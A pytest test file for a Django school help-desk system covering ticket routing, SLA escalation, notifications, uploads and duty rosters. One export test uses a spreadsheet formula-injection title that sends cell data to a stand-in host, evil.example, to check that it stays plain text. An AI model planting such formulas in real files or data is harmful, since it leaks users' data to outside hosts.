"""Tickets where people meet the edges: an engineer who reports, a user ticket about
problem records, a reopened ticket breaching at the Ministry, formulas in titles,
odd digits, many files, long names, a whole-day duty slot."""

import io
from datetime import time, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from core.files import clean_file_name
from core.models import Event, EventTarget
from escalation import selectors as escalation_selectors
from escalation import services as escalation
from escalation.forms import parse_ranges
from escalation.models import END_OF_DAY, DutySlot, SlaTarget
from tests import factories
from tests.tickets.helpers import MONDAY, duty, engineer, fresh, raise_ticket, routed_entries
from tickets import selectors, services
from tickets.models import Status, TicketEvent


def test_a_waiting_ticket_only_its_reporter_could_take_does_not_block_the_queue(tree, desk):
    duty(desk.eng2, on_duty=False)
    duty(desk.eng1, capacity=0)
    own = raise_ticket(desk.eng1, now=MONDAY)  # eng2 off duty, eng1 is its reporter
    theirs = raise_ticket(desk.reporter, now=MONDAY + timedelta(minutes=1))
    assert fresh(own).tier == tree.county and fresh(own).status == Status.NEW
    assert fresh(theirs).status == Status.NEW
    duty(desk.eng1, capacity=5)
    escalation.drain(tree.county.pk, MONDAY + timedelta(minutes=2))
    assert fresh(theirs).assignee == desk.eng1
    assert fresh(own).status == Status.NEW  # still waits for another engineer
    assert routed_entries(own)[0]["skipped"] == [
        ["county-eng-1", "reporter"],
        ["county-eng-2", "off_duty"],
    ]


def test_a_tier_whose_only_engineer_is_the_reporter_is_skipped(tree):
    lone = engineer(tree.sibling, username="lone-eng")
    prov = engineer(tree.province, username="prov-eng")
    ticket = raise_ticket(lone, now=MONDAY)
    assert fresh(ticket).tier == tree.province and fresh(ticket).assignee == prov


def test_a_user_ticket_about_problem_records_is_an_ordinary_ticket(tree, desk):
    ticket = raise_ticket(desk.reporter, category="problem_records", now=MONDAY)
    t = fresh(ticket)
    assert t.raised_by_platform is False and t.response_due is not None  # its SLA runs
    assert not selectors.can_view(desk.colleague, t)  # not the whole school's
    services.problem_ticket_sync(
        school=tree.school, open_records=2, graduating=1, summary="两条", now=MONDAY
    )
    t = fresh(ticket)
    assert t.description == "导入 Excel 时提示格式错误。" and t.priority == "normal"
    platform = selectors.my_tickets(desk.colleague).get()
    assert platform.raised_by_platform and platform.pk != ticket.pk


def test_a_county_manager_reporting_about_problem_records_gets_it_worked(tree, desk):
    boss = factories.manager(tree.county)
    ticket = raise_ticket(boss, category="problem_records", now=MONDAY)
    engineer_of_it = fresh(ticket).assignee
    assert engineer_of_it is not None
    services.ticket_transition(actor=engineer_of_it, ticket=ticket, action="start")
    assert fresh(ticket).status == Status.IN_PROGRESS


def test_the_school_replies_on_its_problem_record_ticket_from_the_page(tree, desk, client_for):
    services.problem_ticket_sync(
        school=tree.school, open_records=1, graduating=0, summary="一条", now=MONDAY
    )
    ticket = selectors.my_tickets(desk.colleague).get()
    page = client_for(desk.colleague).get(f"/tickets/{ticket.pk}/").content.decode()
    assert f'action="/tickets/{ticket.pk}/reply/"' in page


def test_a_formula_in_a_title_stays_text_in_the_export(tree, desk, client_for):
    title = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    raise_ticket(desk.reporter, title=title)
    response = client_for(factories.manager(tree.county)).get("/tickets/all.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cell = sheet.cell(row=2, column=2)
    assert cell.value == title and cell.data_type == "s"


def test_unicode_digits_in_search_and_assign_are_no_crash(tree, desk, client_for):
    ticket = raise_ticket(desk.reporter)
    boss = factories.manager(tree.county)
    c = client_for(boss)
    assert c.get("/tickets/all/?q=²").status_code == 200
    assert c.get("/tickets/all.xlsx?q=²").status_code == 200
    assert c.post(f"/tickets/{ticket.pk}/assign/", {"engineer": "²"}).status_code == 302


def test_a_reopened_ticket_breaching_again_at_the_ministry_alerts_again(tree):
    reporter = factories.staff(tree.muni_school)
    ministry_eng = engineer(tree.ministry, username="ministry-eng")
    SlaTarget.objects.create(
        unit=tree.ministry, priority="urgent", response_minutes=10, resolution_minutes=30
    )
    ticket = raise_ticket(reporter, priority="urgent", now=MONDAY)
    assert fresh(ticket).tier == tree.ministry
    escalation.sweep(now=MONDAY + timedelta(minutes=11))
    alerts = Event.objects.filter(kind="ticket.alert")
    assert alerts.count() == 1
    services.ticket_transition(
        actor=ministry_eng,
        ticket=ticket,
        action="resolve",
        text="已处理",
        now=MONDAY + timedelta(minutes=12),
    )
    services.ticket_transition(
        actor=reporter,
        ticket=ticket,
        action="reopen",
        text="仍然报错",
        now=MONDAY + timedelta(minutes=13),
    )
    escalation.sweep(now=MONDAY + timedelta(minutes=14))
    assert alerts.count() == 1  # a full target again, no instant breach
    escalation.sweep(now=MONDAY + timedelta(minutes=44))
    assert alerts.count() == 2


def test_a_warning_is_dated_when_the_sweep_sent_it(tree, desk):
    ticket = raise_ticket(desk.reporter, priority="urgent", now=MONDAY)
    warn_at = fresh(ticket).warn_at
    later = warn_at + timedelta(minutes=1)
    assert escalation.warn_due(later) == 1
    entry = TicketEvent.objects.get(ticket=ticket, kind="warning")
    assert entry.created_at == later


def test_an_internal_note_is_not_announced_to_the_reporter(tree, desk):
    ticket = raise_ticket(desk.reporter)
    Event.objects.all().delete()
    services.ticket_reply(actor=desk.eng1, ticket=ticket, body="内部判断", internal=True)
    event = Event.objects.get(kind="ticket.changed")
    groups = set(EventTarget.objects.filter(event=event).values_list("group", flat=True))
    assert f"acct.{desk.reporter.pk}" not in groups
    assert not selectors.wants_ticket_event(desk.reporter, event.payload)
    assert selectors.wants_ticket_event(desk.eng1, event.payload)


def test_an_engineer_reporting_never_hears_of_notes_on_its_own_ticket(tree, desk):
    ticket = raise_ticket(desk.eng1)
    worker = fresh(ticket).assignee
    Event.objects.all().delete()
    services.ticket_reply(actor=worker, ticket=ticket, body="内部", internal=True)
    event = Event.objects.get(kind="ticket.changed")
    assert not selectors.wants_ticket_event(desk.eng1, event.payload)  # in the tier group


def test_too_many_files_get_the_forms_message(tree, desk, client_for):
    files = [SimpleUploadedFile(f"截图{i}.png", b"\x89PNG") for i in range(25)]
    response = client_for(desk.reporter).post(
        "/tickets/new/",
        {
            "title": "导入失败",
            "category": "import",
            "priority": "normal",
            "description": "x",
            "files": files,
        },
    )
    assert response.status_code == 200
    assert "10" in response.content.decode()
    assert not selectors.my_tickets(desk.reporter).exists()


def test_a_long_file_name_keeps_its_extension():
    name = clean_file_name("截" * 300 + ".pdf")
    assert len(name) == 200 and name.endswith(".pdf")


@pytest.mark.parametrize("text", ["24:30-08:00", "08:00-24:30", "25:00-26:00", "08:60-09:00"])
def test_duty_hours_past_the_day_are_refused(text):
    with pytest.raises(ValueError):
        parse_ranges(text)


def test_a_whole_day_duty_slot_can_be_written_and_reads_back(tree, desk, client_for):
    assert parse_ranges("00:00-24:00") == [(time(0, 0), END_OF_DAY)]
    boss = factories.manager(tree.county)
    c = client_for(boss)
    response = c.post(
        f"/support/roster/{desk.eng1.pk}/",
        {"capacity": 20, "day0": "00:00-24:00", **{f"day{n}": "" for n in range(1, 7)}},
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    slot = DutySlot.objects.get(account=desk.eng1)
    assert (slot.start, slot.end) == (time(0, 0), END_OF_DAY)
    assert "00:00–24:00" in c.get("/support/roster/").content.decode()
    late = MONDAY.replace(hour=23, minute=59, second=30)
    assert escalation_selectors.on_schedule([slot], late)


def test_a_reopened_ticket_says_why_its_engineer_was_passed_over(tree, desk):
    ticket = raise_ticket(desk.reporter, now=MONDAY)
    first = fresh(ticket).assignee
    services.ticket_transition(actor=first, ticket=ticket, action="resolve", text="已修复")
    duty(first, away=True)
    services.ticket_transition(actor=desk.reporter, ticket=ticket, action="reopen", text="仍有问题")
    last = routed_entries(ticket)[-1]
    assert last["cause"] == "reopen" and last["skipped"][0] == [first.username, "away"]
    assert fresh(ticket).assignee not in (None, first)


def test_a_school_manager_gets_no_dashboard_of_tickets_it_cannot_open(tree, client_for):
    school_manager = factories.manager(tree.school)
    c = client_for(school_manager)
    assert c.get("/tickets/dashboard/").status_code == 403
    assert "/tickets/dashboard/" not in c.get("/tickets/mine/").content.decode()


def test_the_queue_count_follows_a_ticket_leaving_the_queue(tree, desk, client_for):
    ticket = raise_ticket(desk.reporter)
    holder = fresh(ticket).assignee
    c = client_for(holder)
    assert c.get("/tickets/queue/count/").json() == {"count": 1}
    escalation.escalate(actor=holder, ticket=ticket, reason="需要省级处理")
    assert c.get("/tickets/queue/count/").json() == {"count": 0}
